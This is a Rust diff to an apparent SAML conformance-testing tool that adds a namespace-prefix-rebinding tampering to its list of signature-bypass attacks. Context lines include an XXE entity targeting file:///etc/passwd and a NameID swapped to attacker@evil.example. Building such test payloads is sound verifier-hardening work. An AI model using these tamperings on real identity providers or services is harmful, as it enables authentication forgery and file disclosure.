@@ -29,6 +29,8 @@ pub const HMAC_SHA256: &str = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha25
 pub const UNKNOWN_SIGNATURE_METHOD: &str = "urn:samlconf:attack:signature-method:none";
 /// Where the XXE variant points its external entity.
 pub const XXE_SYSTEM_ID: &str = "file:///etc/passwd";
+/// What the prefix-rebinding variant binds `xs` to.
+pub const REBOUND_XS_NAMESPACE: &str = "urn:samlconf:attack:not-xml-schema";
 /// The relative namespace URI of the void-canonicalisation variant.
 pub const RELATIVE_NAMESPACE_URI: &str = "void";
 
@@ -89,11 +91,17 @@ pub enum Tampering {
     /// rewritten to `attacker@evil.example`. libxml2's C14N refuses relative namespace URIs; a
     /// verifier that turns the failure into an empty canonical form compares digests of nothing.
     RelativeNamespaceUri,
+    /// Namespace prefix rebinding: `xmlns:xs` on every AttributeValue rebound from XML Schema to
+    /// [`REBOUND_XS_NAMESPACE`]. Exclusive C14N signs only visibly used prefixes, and `xs` is used
+    /// only inside the value of `xsi:type="xs:string"`, so the IdP's signature still verifies
+    /// while the type now names something else (an IdP that signs with
+    /// `InclusiveNamespaces PrefixList="xs"` would have covered it).
+    RebindUnsignedPrefix,
 }
 
 impl Tampering {
     /// Every variant, for tests and listings.
-    pub const ALL: [Tampering; 11] = [
+    pub const ALL: [Tampering; 12] = [
         Tampering::DoctypeExternalEntity,
         Tampering::DoctypeEntityExpansion,
         Tampering::EntityInSignedText,
@@ -105,6 +113,7 @@ impl Tampering {
         Tampering::XsltTransform,
         Tampering::XpathFilterExcludesSubject,
         Tampering::RelativeNamespaceUri,
+        Tampering::RebindUnsignedPrefix,
     ];
 }
 
@@ -251,6 +260,13 @@ pub fn apply(xml: &str, attack: Tampering, idp_cert_pem: &str) -> Result<String,
                 return Err(missing("the XPath filter the IdP signed with"));
             }
             replace_name_id(xml, attack, |_| ATTACKER_NAME_ID.to_owned())
+        }
+        Tampering::RebindUnsignedPrefix => {
+            let schema = r#"xmlns:xs="http://www.w3.org/2001/XMLSchema""#;
+            if !xml.contains(schema) {
+                return Err(missing("an xmlns:xs declaration"));
+            }
+            Ok(xml.replace(schema, &format!(r#"xmlns:xs="{REBOUND_XS_NAMESPACE}""#)))
         }
         Tampering::RelativeNamespaceUri => {
             let xml = replace_name_id(xml, attack, |_| ATTACKER_NAME_ID.to_owned())?;
